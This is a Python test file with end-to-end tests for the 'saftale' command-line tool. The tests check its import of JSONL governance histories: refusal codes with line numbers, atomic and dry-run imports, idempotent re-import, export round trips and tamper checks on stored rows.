"""The installed ``saftale`` command, end to end, as a user and a script drive it.

Every test runs the console script installed in the virtualenv as a subprocess
(never click's test runner), with the store chosen by ``$SAFTALE_DB`` or
``--db``, in a working directory of its own.  What is checked is what a user
sees: stdout, stderr, the exit code, and what the store holds afterwards (read
back with ``saftale export``, or, for tampering, the stored rows themselves).

The contract is ``../shared/HISTORY_FORMAT.md`` (format 1).  Refused histories are
built as a valid prefix made with :mod:`tests.support` plus one bad line, with
blank lines and valid lines of another subject around it, so line numbers are
not trivially 1 or the last line.

Stores shared by several tests are module-scoped and only read; a test that
writes works on a copy or a fresh store of its own.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import select
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import attrs
import psycopg
import pytest

from saftale_core import Saftale, fact_to_dict
from saftale_core.facts import Fact
from tests import pg
from tests.conftest import new_store
from tests.support import agreement_path, first, task_path, until

SAFTALE = str(Path(sys.executable).parent / "saftale")
EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
EXAMPLE_FILES = ("history.jsonl", "development-tasks.jsonl", "generation-2019-2023.jsonl")
KINDS = ("sqlite", "postgres")
BOM = "\ufeff"

# -- running the command ----------------------------------------------------------------------


@attrs.frozen(repr=False)
class Run:
    """What one run of the command did."""

    args: tuple[str, ...]
    code: int
    raw: bytes
    """stdout as bytes (CSV line ends and the BOM are checked on these)."""
    err: str

    @property
    def out(self) -> str:
        return self.raw.decode("utf-8")

    @property
    def lines(self) -> list[str]:
        return self.out.splitlines()

    def json(self) -> Any:
        assert self.code == 0, self
        return json.loads(self.out)

    def __repr__(self) -> str:  # what a failed assertion shows
        return (
            f"saftale {' '.join(self.args)} exited {self.code}\n"
            f"--- stdout\n{self.out[:3000]}\n--- stderr\n{self.err[:3000]}"
        )


def saftale(
    *args: str,
    db: str | None = None,
    views: str | None = None,
    cwd: Path,
    stdin: bytes | None = None,
) -> Run:
    """Run the installed command; the store and views come from the environment."""
    env = {k: v for k, v in os.environ.items() if k not in ("SAFTALE_DB", "SAFTALE_VIEWS")}
    if db is not None:
        env["SAFTALE_DB"] = db
    if views is not None:
        env["SAFTALE_VIEWS"] = views
    proc = subprocess.run(
        [SAFTALE, *args],
        cwd=cwd,
        env=env,
        input=stdin,
        stdin=None if stdin is not None else subprocess.DEVNULL,
        capture_output=True,
        timeout=300,
        check=False,
    )
    return Run(tuple(args), proc.returncode, proc.stdout, proc.stderr.decode("utf-8"))


def many(
    commands: Sequence[Sequence[str]],
    *,
    db: str | None = None,
    views: str | None = None,
    cwd: Path,
) -> list[Run]:
    """Independent runs side by side (a run is mostly Python starting up); in order."""
    with ThreadPoolExecutor(max_workers=max(2, os.cpu_count() or 2)) as pool:
        return list(pool.map(lambda args: saftale(*args, db=db, views=views, cwd=cwd), commands))


def ok(run: Run) -> Run:
    assert run.code == 0, run
    assert "Traceback" not in run.err, run
    return run


def exported(db: str, cwd: Path) -> list[str]:
    """Every recorded fact, as ``saftale export`` writes it."""
    return ok(saftale("export", db=db, cwd=cwd)).lines


def recorded(db: str, cwd: Path) -> list[str]:
    """What :func:`exported` gives; a new SQLite store that a refused import did not
    leave behind (see ``test_a_refused_import_leaves_no_new_store_behind``) holds
    nothing."""
    if db.startswith("sqlite:///") and not (cwd / db.removeprefix("sqlite:///")).exists():
        return []
    return exported(db, cwd)


# -- history files ----------------------------------------------------------------------------


def line(fact: Fact, **changes: Any) -> str:
    """A history-file line for ``fact``, with keys changed (or added) as given."""
    return json.dumps(fact_to_dict(fact) | changes, ensure_ascii=False)


def lines_of(facts: Sequence[Fact]) -> list[str]:
    return [line(x) for x in facts]


def write(path: Path, lines: Sequence[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(x + "\n" for x in lines), encoding="utf-8")
    return path


def example_lines() -> list[str]:
    return [
        x
        for name in EXAMPLE_FILES
        for x in (EXAMPLES / name).read_text(encoding="utf-8").splitlines()
    ]


def generated_lines(subjects: int) -> list[str]:
    """A long valid history: whole agreements and development tasks of many subjects."""
    out: list[str] = []
    for i in range(subjects):
        if i % 3 == 2:
            out += lines_of(task_path(f"gen-task-{i}"))
        else:
            delivery = "cluster" if i % 3 == 0 else "working_group"
            out += lines_of(agreement_path(f"gen-{i}", delivery=delivery))
    return out


# -- refusal cases: a valid prefix, then the bad line -----------------------------------------

Case = tuple[list[str], str]


def _bad_record(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:3]), json.dumps(
        {"type": "NoSuchFact", "subject": s, "on": "2019", "by": "SSG"}
    )


def _bad_date(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:3]), line(first(p, "ClusterAssigned"), on="2019-02-30")


def _date_in_future(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:3]), line(first(p, "ClusterAssigned"), on="2099-01-05")


def _date_before_previous(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:1]), line(first(p, "KommissoriumApproved"), on="2018-12")


def _unknown_subject(s: str) -> Case:
    p = agreement_path(s)
    return [], line(first(p, "ClusterOffered"), subject=s + "-never-initiated")


def _duplicate_subject(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:2]), line(p[0], on="2019-02-04", title="The same key again")


def _unknown_body(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:2]), line(first(p, "ClusterOffered"), by="klynge:atlantis")


def _not_authorised(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(p[:1]), line(first(p, "KommissoriumApproved"), by="SKU")


def _out_of_order(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(until(p, "ApprovedBySSG")), line(first(p, "ApprovedBySKU"))


def _wrong_delivery(s: str) -> Case:
    p = agreement_path(s, delivery="working_group")
    prefix = until(p, "DraftSubmitted")
    cluster_step = {"type": "ClusterOffered", "subject": s, "on": str(prefix[-1].on)}
    return lines_of(prefix), json.dumps(cluster_step | {"by": "klynge:horsens"})


def _not_offered(s: str) -> Case:
    p = agreement_path(s, cluster="klynge:horsens")
    return lines_of(until(p, "ClusterAssigned")), line(
        first(p, "ClusterAssigned"), cluster="klynge:randers"
    )


def _council_twice(s: str) -> Case:
    p = agreement_path(s)
    prefix = until(p, "ImplementationStarted")
    again = {"type": "RejectedByCouncil", "subject": s, "on": str(first(p, "Implemented").on)}
    return lines_of(prefix), json.dumps(again | {"by": "regionsraad", "reason": "Second thoughts"})


def _implementation_before_approval(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(until(p, "ApprovedByCouncil")), line(first(p, "ImplementationStarted"))


def _practice_tasks_not_agreed(s: str) -> Case:
    p = agreement_path(s, general_practice_tasks=True)
    return lines_of(until(p, "PracticeTasksAgreed")), line(first(p, "ImplementationStarted"))


def _economy_not_clarified(s: str) -> Case:
    p = agreement_path(s, changes_task_allocation=True)
    return lines_of(until(p, "EconomicConsequencesClarified")), line(first(p, "ApprovedBySSG"))


def _evaluation_before_implementation(s: str) -> Case:
    p = agreement_path(s)
    return lines_of(until(p, "ImplementationStarted")), line(first(p, "Evaluated"))


def _brief_missing(s: str) -> Case:
    t = task_path(s)
    return lines_of(t[:1]), line(first(t, "TaskOfferedToClusters"))


def _not_asked(s: str) -> Case:
    t = task_path(s)
    return lines_of(until(t, "ClusterResponded")), line(
        first(t, "ClusterResponded"), by="klynge:vest"
    )


def _coordination_missing(s: str) -> Case:
    t = task_path(s)
    prefix = [x for x in until(t, "SolutionTested") if x.TYPE != "ClustersCoordinated"]
    return lines_of(prefix), line(first(t, "SolutionTested"))


def _closed(s: str) -> Case:
    p = agreement_path(s)
    prefix = until(p, "DraftSubmitted")
    draft = first(p, "DraftSubmitted")
    withdrawn = {"type": "AgreementWithdrawn", "subject": s, "on": str(draft.on), "by": "SKU"}
    return [*lines_of(prefix), json.dumps(withdrawn | {"reason": "Superseded"})], line(
        draft, on="2019-12-02"
    )


REFUSALS: dict[str, Callable[[str], Case]] = {
    "bad-record": _bad_record,
    "bad-date": _bad_date,
    "date-in-future": _date_in_future,
    "date-before-previous": _date_before_previous,
    "unknown-subject": _unknown_subject,
    "duplicate-subject": _duplicate_subject,
    "unknown-body": _unknown_body,
    "not-authorised": _not_authorised,
    "out-of-order": _out_of_order,
    "wrong-delivery": _wrong_delivery,
    "not-offered": _not_offered,
    "council-twice": _council_twice,
    "implementation-before-approval": _implementation_before_approval,
    "practice-tasks-not-agreed": _practice_tasks_not_agreed,
    "economy-not-clarified": _economy_not_clarified,
    "evaluation-before-implementation": _evaluation_before_implementation,
    "brief-missing": _brief_missing,
    "not-asked": _not_asked,
    "coordination-missing": _coordination_missing,
    "closed": _closed,
}


def refused_file(index: int, code: str) -> tuple[list[str], int]:
    """The lines of a file refused with ``code`` on exactly one line, and that line's number.

    Blank lines go after the first line (0, 1 or 2 of them), and every other
    case goes on with the valid facts of another subject after the bad line.
    """
    subject = f"case-{code}"
    prefix, bad = REFUSALS[code](subject)
    blanks = [""] * (index % 3)
    tail = lines_of(agreement_path(f"{subject}-tail")[:6]) if index % 2 else []
    lines = [*prefix[:1], *blanks, *prefix[1:], bad, *tail]
    return lines, len(prefix) + len(blanks) + 1


def test_every_refusal_code_of_the_contract_has_a_case() -> None:
    # docs/history-format.md is the repository's copy of the contract (HISTORY_FORMAT.md).
    contract = Path(__file__).resolve().parents[1] / "docs" / "history-format.md"
    table = contract.read_text(encoding="utf-8").split("## Refusal codes", 1)[1]
    codes = re.findall(r"^\| `([a-z-]+)` \|", table, flags=re.MULTILINE)
    assert codes == list(REFUSALS)
    warnings = re.findall(r"`([a-z-]+)`", table.split("Warnings:", 1)[1].split("\n\n")[0])
    assert warnings == ["triple-aim-missing", "comments-skipped"]


# -- shared stores ----------------------------------------------------------------------------


@attrs.frozen
class Store:
    db: str
    cwd: Path
    export: tuple[str, ...]


def import_examples(db: str, cwd: Path) -> list[Run]:
    """The three bundled example histories, imported one by one: three writes, each
    with its seal (the verify tests take seals away)."""
    return [ok(saftale("import", str(EXAMPLES / n), db=db, cwd=cwd)) for n in EXAMPLE_FILES]


@pytest.fixture(scope="module")
def examples_store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """An SQLite store with the three bundled example histories; only read by the tests."""
    cwd = tmp_path_factory.mktemp("examples")
    db = f"sqlite:///{cwd / 'examples.db'}"
    runs = import_examples(db, cwd)
    assert "triple-aim-missing" in runs[0].out
    export = exported(db, cwd)
    assert len(export) == len([x for x in example_lines() if x.strip()])
    return Store(db, cwd, tuple(export))


def sqlite_copy(store: Store, to: Path) -> str:
    """A copy of an SQLite store's file(s): a store of its own to write to or tamper with."""
    source = Path(store.db.removeprefix("sqlite:///"))
    for suffix in ("", "-wal", "-shm"):
        if Path(str(source) + suffix).exists():
            shutil.copy(str(source) + suffix, str(to) + suffix)
    return f"sqlite:///{to}"


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    if request.param == "postgres":
        pg.require()
    return str(request.param)


@pytest.fixture
def empty_url(kind: str, tmp_path: Path) -> Iterator[str]:
    url, cleanup = new_store(kind, tmp_path)
    yield url
    cleanup()


# -- 1. the contract: every refusal code, with its line number --------------------------------


@attrs.frozen
class Batch:
    run: Run
    expected: dict[str, tuple[str, int]]
    """code -> (the file's name as given, the bad line's number)"""
    export: tuple[str, ...]


@pytest.fixture(scope="module", params=KINDS)
def refusal_batch(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Batch]:
    """Every refused file imported by one command into an empty store, then exported.

    The files are one history, each about subjects of its own, so one run shows
    every code with its file's name and line; a refusal that went missing would
    leave its file without its line (and the whole import would be recorded).
    """
    if request.param == "postgres":
        pg.require()
    cwd = tmp_path_factory.mktemp(f"refused-{request.param}")
    url, cleanup = new_store(str(request.param), cwd)
    expected: dict[str, tuple[str, int]] = {}
    for index, code in enumerate(REFUSALS):
        lines, number = refused_file(index, code)
        name = f"refused/{index:02d}-{code}.jsonl"
        write(cwd / name, lines)
        expected[code] = (name, number)
    run = saftale("import", *(name for name, _ in expected.values()), db=url, cwd=cwd)
    yield Batch(run, expected, tuple(recorded(url, cwd)))
    cleanup()


@pytest.mark.parametrize("code", list(REFUSALS))
def test_a_refused_line_is_printed_as_file_line_code_message(
    refusal_batch: Batch, code: str
) -> None:
    name, number = refusal_batch.expected[code]
    mine = [x for x in refusal_batch.run.lines if x.startswith(name + ":")]
    assert len(mine) == 1, refusal_batch.run
    assert re.fullmatch(rf"{re.escape(name)}:{number}: {re.escape(code)}: \S.*", mine[0]), mine
    assert f"{name}: refused: 1 of " in refusal_batch.run.err


def test_refused_files_exit_1_without_a_traceback_and_record_nothing(
    refusal_batch: Batch,
) -> None:
    run = refusal_batch.run
    assert run.code == 1, run
    assert "Traceback" not in run.err + run.out
    # One line per refused file on stdout, and nothing else (no "already recorded").
    assert len(run.lines) == len(REFUSALS), run
    assert run.err.count("nothing was recorded") == len(REFUSALS)
    assert f"nothing of the {len(REFUSALS)} files was recorded" in run.err
    assert refusal_batch.export == ()


def test_a_refused_line_is_counted_against_what_the_store_holds(
    examples_store: Store, tmp_path: Path
) -> None:
    """Lines refused because of facts recorded by an earlier import; new valid lines too."""
    db = sqlite_copy(examples_store, tmp_path / "copy.db")
    new = lines_of(agreement_path("ny-aftale")[:4])
    start = {"type": "ImplementationStarted", "subject": "akut-aeldre", "on": "2021-06"}
    again: dict[str, Any] = {"type": "AgreementInitiated", "subject": "rygestop", "by": "SSG"}
    again |= {"on": "2022-01-10", "title": "Rygestop igen", "origin": "own_initiative"}
    again |= {"focus_areas": ["aeldre"]}
    path = write(
        tmp_path / "more.jsonl",
        [*new[:2], "", json.dumps(start | {"by": "klynge:vest"}), *new[2:], json.dumps(again)],
    )
    run = saftale("import", str(path), db=db, cwd=tmp_path)
    assert run.code == 1, run
    assert [x.split(": ")[1] for x in run.lines] == [
        "implementation-before-approval",
        "duplicate-subject",
    ]
    assert run.lines[0].startswith(f"{path}:4: implementation-before-approval: ")
    assert run.lines[1].startswith(f"{path}:7: duplicate-subject: ")
    assert "byraad:lemvig" in run.lines[0]
    assert tuple(exported(db, tmp_path)) == examples_store.export


def test_every_refusal_of_a_file_is_printed_in_line_order(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    good = lines_of(agreement_path("a"))
    path = write(
        tmp_path / "h.jsonl",
        [
            good[0],
            "",
            "{not json",
            "[1, 2]",
            line(agreement_path("a")[1], by="SKU"),
            *good[1:3],
            json.dumps({"type": "ClusterOffered", "subject": "zz", "on": "2019-02", "by": "SSG"}),
            json.dumps({"type": "ClusterOffered", "subject": "a", "on": "2019-02-30", "by": "SSG"}),
        ],
    )
    run = saftale("import", "h.jsonl", db=db, cwd=tmp_path)
    assert run.code == 1, run
    assert [x.split(": ")[0:2] for x in run.lines] == [
        ["h.jsonl:3", "bad-record"],
        ["h.jsonl:4", "bad-record"],
        ["h.jsonl:5", "not-authorised"],
        ["h.jsonl:8", "unknown-subject"],
        ["h.jsonl:9", "bad-date"],
    ]
    assert "h.jsonl: refused: 5 of " in run.err
    assert recorded(db, tmp_path) == []
    assert path.is_file()


def test_a_refused_history_on_stdin_is_reported_as_stdin(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    lines, number = refused_file(1, "not-authorised")
    run = saftale("import", "-", db=db, cwd=tmp_path, stdin="\n".join(lines).encode())
    assert run.code == 1, run
    assert run.lines[0].startswith(f"<stdin>:{number}: not-authorised: "), run
    assert recorded(db, tmp_path) == []


def test_warnings_print_with_their_line_and_do_not_block(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    agreement = agreement_path("uden-triple-aim")
    draft = agreement.index(first(agreement, "DraftSubmitted"))
    task = task_path("uden-hoering", comments=False)
    ssg = task.index(first(task, "ApprovedBySSG"))
    lines = lines_of(agreement)
    lines[draft] = line(agreement[draft], triple_aim=False)
    lines = [lines[0], "", *lines[1:], "", *lines_of(task)]
    path = write(tmp_path / "w.jsonl", lines)
    run = ok(saftale("import", "w.jsonl", db=db, cwd=tmp_path))
    draft_line = draft + 2  # the blank line after line 1
    ssg_line = len(agreement) + 2 + ssg + 1
    assert len(run.lines) == 2, run
    assert re.fullmatch(rf"w.jsonl:{draft_line}: triple-aim-missing: warning: \S.*", run.lines[0])
    assert re.fullmatch(rf"w.jsonl:{ssg_line}: comments-skipped: warning: \S.*", run.lines[1])
    assert "2 warnings" in run.err
    assert len(exported(db, tmp_path)) == len(agreement) + len(task)
    assert path.is_file()


def test_a_line_that_is_not_utf8_is_refused_with_its_line_number(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    good = "".join(x + "\n" for x in lines_of(agreement_path("a")[:2])).encode()
    bad = b'{"type": "ClusterOffered", "subject": "a", "on": "2019-02", "by": "klynge:\xe5rhus"}\n'
    (tmp_path / "latin1.jsonl").write_bytes(good + bad)
    run = saftale("import", "latin1.jsonl", db=db, cwd=tmp_path)
    assert run.code == 1, run
    assert recorded(db, tmp_path) == []
    assert run.lines[0].startswith("latin1.jsonl:3: bad-record: "), run


# -- 2. atomicity and --dry-run ---------------------------------------------------------------


@pytest.fixture(scope="module")
def long_history() -> list[str]:
    """The three examples and a few thousand generated lines, all valid."""
    lines = [*example_lines(), *generated_lines(150)]
    assert len(lines) > 3000
    return lines


def test_a_bad_last_line_of_a_long_file_records_nothing(
    long_history: list[str], empty_url: str, tmp_path: Path
) -> None:
    bad = json.dumps({"type": "ApprovedBySKU", "subject": "gen-0", "on": "2099-01-05", "by": "SKU"})
    write(tmp_path / "long.jsonl", [*long_history, bad])
    run = saftale("import", "long.jsonl", db=empty_url, cwd=tmp_path)
    assert run.code == 1, run
    assert "Traceback" not in run.err
    # The examples' one warning (history.jsonl:136), then the refusal of the last line.
    assert len(run.lines) == 2, run
    assert run.lines[0].startswith("long.jsonl:136: triple-aim-missing: warning: ")
    assert re.fullmatch(rf"long.jsonl:{len(long_history) + 1}: date-in-future: \S.*", run.lines[1])
    assert recorded(empty_url, tmp_path) == []


def test_dry_run_records_nothing_and_the_same_file_then_imports(
    long_history: list[str], tmp_path: Path
) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    write(tmp_path / "long.jsonl", long_history)
    dry = ok(saftale("import", "--dry-run", "long.jsonl", db=db, cwd=tmp_path))
    assert f"long.jsonl: would record {len(long_history)} facts" in dry.err
    assert "checking against an empty history" in dry.err
    assert not (tmp_path / "s.db").exists()  # a dry run creates no store either
    real = ok(saftale("import", "long.jsonl", db=db, cwd=tmp_path))
    assert f"long.jsonl: recorded {len(long_history)} facts" in real.err
    assert len(exported(db, tmp_path)) == len(long_history)


def test_several_files_are_one_history_in_the_order_given(tmp_path: Path) -> None:
    """The second file goes on with the subjects of the first: with --dry-run and without,
    its lines are checked against the first file's facts (on its own it is refused)."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    a, b = agreement_path("a"), task_path("b")
    write(tmp_path / "start.jsonl", [*lines_of(a[:4]), *lines_of(b[:3])])
    write(tmp_path / "more.jsonl", [*lines_of(a[4:]), "", *lines_of(b[3:])])
    alone = saftale("import", "--dry-run", "more.jsonl", db=db, cwd=tmp_path)
    assert alone.code == 1 and "unknown-subject" in alone.out, alone
    dry = ok(saftale("import", "--dry-run", "start.jsonl", "more.jsonl", db=db, cwd=tmp_path))
    assert dry.out == ""
    assert "start.jsonl: would record 7 facts; 0 already recorded" in dry.err
    assert f"more.jsonl: would record {len(a) + len(b) - 7} facts; 0 already" in dry.err
    assert not (tmp_path / "s.db").exists()
    real = ok(saftale("import", "start.jsonl", "more.jsonl", db=db, cwd=tmp_path))
    assert "start.jsonl: recorded 7 facts" in real.err
    assert f"more.jsonl: recorded {len(a) + len(b) - 7} facts" in real.err
    once = exported(db, tmp_path)
    assert len(once) == len(a) + len(b)
    # and again: every line of both files is a no-op
    again = ok(saftale("import", "start.jsonl", "more.jsonl", db=db, cwd=tmp_path))
    assert again.lines == [
        *(f"start.jsonl:{n}: already recorded" for n in range(1, 8)),
        *(
            f"more.jsonl:{n}: already recorded"
            for n in range(1, len(a) + len(b) - 5)
            if n != len(a) - 3
        ),
    ]
    assert "more.jsonl: recorded 0 facts" in again.err
    assert exported(db, tmp_path) == once


def test_a_refused_line_in_any_file_records_nothing_of_any(empty_url: str, tmp_path: Path) -> None:
    """One import of several files is all or nothing: the first file is valid, the
    second goes on with it and has a bad line, the third is valid: nothing is recorded,
    and each refusal names its own file and line."""
    a, b, c = agreement_path("a"), agreement_path("b"), task_path("c")
    bad_date = line(first(a, "ClusterOffered"), on="2019-02-30")
    wrong_body = line(a[len(a) // 2], by="klynge:atlantis")
    write(tmp_path / "a.jsonl", [*lines_of(a[:2]), "", *lines_of(b)])
    write(tmp_path / "more-a.jsonl", [*lines_of(a[2:4]), bad_date, *lines_of(a[4:6]), wrong_body])
    write(tmp_path / "c.jsonl", lines_of(c))
    files = ("a.jsonl", "more-a.jsonl", "c.jsonl")
    run = saftale("import", *files, db=empty_url, cwd=tmp_path)
    assert run.code == 1, run
    assert "Traceback" not in run.err
    assert [x.split(": ")[:2] for x in run.lines] == [
        ["more-a.jsonl:3", "bad-date"],
        ["more-a.jsonl:6", "unknown-body"],
    ]
    assert "more-a.jsonl: refused: 2 of 6 lines; nothing was recorded" in run.err
    assert "nothing of the 3 files was recorded" in run.err
    assert recorded(empty_url, tmp_path) == []
    dry = saftale("import", "--dry-run", *files, db=empty_url, cwd=tmp_path)
    assert (dry.code, dry.lines) == (1, run.lines), dry


def test_stdin_can_be_one_of_the_files_but_only_once(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    a = agreement_path("a")
    write(tmp_path / "start.jsonl", lines_of(a[:3]))
    more = "".join(x + "\n" for x in lines_of(a[3:])).encode()
    run = ok(saftale("import", "start.jsonl", "-", db=db, cwd=tmp_path, stdin=more))
    assert f"<stdin>: recorded {len(a) - 3} facts" in run.err
    twice = saftale("import", "-", "-", db=db, cwd=tmp_path, stdin=b"")
    assert twice.code == 2 and "only once" in twice.err, twice


def test_refused_lines_print_as_they_are_found(tmp_path: Path) -> None:
    """Refusals print in line order as the file is read (not gathered first): the first
    refusals reach the reader while the import is still reading the rest of the file."""
    db = f"sqlite:///{tmp_path / 's.db'}"
    fifo = tmp_path / "refused.fifo"
    os.mkfifo(fifo)
    proc = subprocess.Popen(
        [SAFTALE, "import", "--dry-run", "refused.fifo"],
        cwd=tmp_path,
        env={**os.environ, "SAFTALE_DB": db},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    try:
        with fifo.open("w", encoding="utf-8") as feed:
            # Enough refused lines to fill the output's buffer, then wait for them to be
            # read before the file goes on: a command that gathered its refusals first
            # would print nothing until the file ends.
            feed.write("[]\n" * 2000)
            feed.flush()
            ready, _, _ = select.select([proc.stdout], [], [], 60)
            assert ready, "nothing printed while the file is still being read"
            first_line = proc.stdout.readline().decode()
            feed.write("[]\n" * 10)
        rest = proc.stdout.read().decode().splitlines()
        err = proc.stderr.read().decode()
        assert proc.wait(timeout=120) == 1, err
    finally:
        proc.kill()
        proc.wait()
    assert first_line.startswith("refused.fifo:1: bad-record: ")
    numbers = [int(x.split(":")[1]) for x in [first_line, *rest]]
    assert numbers == list(range(1, 2011))
    assert "refused.fifo: refused: 2010 of 2010 lines; nothing was recorded" in err


# -- 3. idempotent re-import ------------------------------------------------------------------


def test_importing_the_same_file_twice_records_each_fact_once(
    empty_url: str, tmp_path: Path
) -> None:
    lines = example_lines()
    lines = [*lines[:10], "", *lines[10:]]
    write(tmp_path / "all.jsonl", lines)
    ok(saftale("import", "all.jsonl", db=empty_url, cwd=tmp_path))
    once = exported(empty_url, tmp_path)
    assert len(once) == len(lines) - 1
    again = ok(saftale("import", "all.jsonl", db=empty_url, cwd=tmp_path))
    assert again.lines == [
        f"all.jsonl:{n}: already recorded" for n, x in enumerate(lines, 1) if x.strip()
    ]
    assert f"all.jsonl: recorded 0 facts; {len(once)} already recorded" in again.err
    assert exported(empty_url, tmp_path) == once


# -- the views of the examples, shown once and shared ----------------------------------------

SHOW: dict[str, tuple[tuple[str, ...], str, str]] = {
    # name: (arguments, the table's title, a value that must be shown)
    "subjects": (("show", "subjects"), "Subjects", "rygestop"),
    "subject": (("show", "subject", "rygestop"), "Subject rygestop", "ClusterAssigned"),
    "inbox": (("show", "inbox", "SSG"), "Awaiting SSG", "svaer-psykisk-sygdom"),
    "decisions": (("show", "decisions", "SSG"), "Decisions of SSG", "KommissoriumApproved"),
    # Vestklyngen by its later name: every body argument goes through the registry's aliases.
    "cluster": (("show", "cluster", "Gødstrupklyngen"), "Cluster klynge:vest", "rygestop"),
    "focus-area": (("show", "focus-area", "aeldre"), "Focus area aeldre", "lup-samarbejde"),
    "deadlines": (("show", "deadlines"), "Deadlines, as of ", "akut-aeldre"),
}
VIEWS = {**{name: args for name, (args, _, _) in SHOW.items()}, "audit": ("audit",)}


def views_json(db: str, cwd: Path, views: str | None = None) -> dict[str, Any]:
    """Every view (and the audit) as JSON; the first run brings the views up to date."""
    names = list(VIEWS)
    first_run = saftale(*VIEWS[names[0]], "--format", "json", db=db, views=views, cwd=cwd)
    rest = many([(*VIEWS[n], "--format", "json") for n in names[1:]], db=db, views=views, cwd=cwd)
    return {name: run.json() for name, run in zip(names, [first_run, *rest], strict=True)}


@pytest.fixture(scope="module")
def examples_views(examples_store: Store) -> dict[str, Any]:
    return views_json(examples_store.db, examples_store.cwd)


# -- 4. export / import round trip ------------------------------------------------------------

# The contract (HISTORY_FORMAT.md) has no recorded_at key: a fact imported from a line
# without one is recorded when it is imported, so the recorded time is all that may differ
# between store A and store B.  (saftale's export may add recorded_at, as an optional
# extension of format 1 in docs/history-format.md; then even that must be the same.)
RECORDED_TIME = ("recorded_at",)


def without_recorded_time(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: without_recorded_time(v) for k, v in value.items() if k not in RECORDED_TIME}
    if isinstance(value, list):
        return [without_recorded_time(v) for v in value]
    return value


def test_an_export_imported_into_an_empty_store_gives_the_same_views_and_audit(
    examples_store: Store, examples_views: dict[str, Any], tmp_path: Path
) -> None:
    ok(saftale("export", "-o", "a.jsonl", db=examples_store.db, cwd=tmp_path))
    written = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    assert written == list(examples_store.export)
    b = f"sqlite:///{tmp_path / 'b.db'}"
    ok(saftale("import", "a.jsonl", db=b, cwd=tmp_path))
    assert tuple(exported(b, tmp_path)) == examples_store.export
    b_views = views_json(b, tmp_path)
    for name, a_view in examples_views.items():
        assert without_recorded_time(b_views[name]) == without_recorded_time(a_view), name
    # Not vacuous: the views are full.
    assert len(examples_views["subjects"]) == 11
    assert len(examples_views["audit"]) == len(examples_store.export)
    if all("recorded_at" in json.loads(x) for x in examples_store.export):
        assert b_views == examples_views


# -- 5. verify --------------------------------------------------------------------------------


class Rows:
    """The stored rows of a store (or the tables of views), reached behind the library's back."""

    def __init__(self, url: str) -> None:
        self.sqlite: sqlite3.Connection | None = None
        self.pg: psycopg.Connection[tuple[Any, ...]] | None = None
        if url.startswith("sqlite:///"):
            self.schema, self.table, self.id = "", "stored_events", "rowid"
            self.sqlite = sqlite3.connect(url.removeprefix("sqlite:///"))
            return
        self.schema = parse_qs(urlsplit(url).query)["schema"][0]
        self.pg = psycopg.connect(url.split("?")[0], autocommit=True)
        # eventsourcing names the table after the application; find it and its columns.
        (table,) = self.tables("%events")
        columns = [
            name
            for (name,) in self.pg.execute(
                "select column_name from information_schema.columns "
                "where table_schema = %s and table_name = %s",
                (self.schema, table),
            )
        ]
        assert {"originator_id", "originator_version", "topic", "state"} <= set(columns)
        (self.id,) = [c for c in columns if "notification" in c]
        self.table = self.qualified(table)

    def tables(self, like: str) -> list[str]:
        if self.sqlite is not None:
            query = "select name from sqlite_master where type = 'table' and name like ?"
            return sorted(name for (name,) in self.sqlite.execute(query, (like,)))
        assert self.pg is not None
        query = (
            "select table_name from information_schema.tables "
            "where table_schema = %s and table_name like %s"
        )
        return sorted(name for (name,) in self.pg.execute(query, (self.schema, like)))

    def qualified(self, table: str) -> str:
        return f'"{self.schema}"."{table}"' if self.schema else f'"{table}"'

    def sql(self, query: str, params: Sequence[Any] = ()) -> list[tuple[Any, ...]]:
        query = query.replace("{t}", self.table).replace("{id}", self.id)
        if self.sqlite is not None:
            with self.sqlite:
                return self.sqlite.execute(query.replace("%s", "?"), params).fetchall()
        assert self.pg is not None
        cursor = self.pg.execute(query, params)
        return cursor.fetchall() if cursor.description else []

    def state(self, position: int) -> dict[str, Any]:
        ((state,),) = self.sql("select state from {t} where {id} = %s", (position,))
        return dict(json.loads(bytes(state)))

    def set_state(self, position: int, state: dict[str, Any]) -> None:
        data = json.dumps(state, ensure_ascii=False, separators=(",", ":")).encode()
        self.sql("update {t} set state = %s where {id} = %s", (data, position))

    def swap(self, a: int, b: int) -> None:
        """Exchange the notification ids of two rows: the facts trade places."""
        self.sql("update {t} set {id} = %s where {id} = %s", (-1, a))
        self.sql("update {t} set {id} = %s where {id} = %s", (a, b))
        self.sql("update {t} set {id} = %s where {id} = %s", (b, -1))

    def seals(self) -> list[int]:
        query = "select {id} from {t} where topic = %s order by 1"
        return [int(n) for (n,) in self.sql(query, ("saftale:Sealed",))]

    def dump(self, tables: Sequence[str]) -> dict[str, list[str]]:
        """Every row of these tables, in a stable order."""
        return {
            t: sorted(repr(row) for row in self.sql(f"select * from {self.qualified(t)}"))
            for t in tables
        }

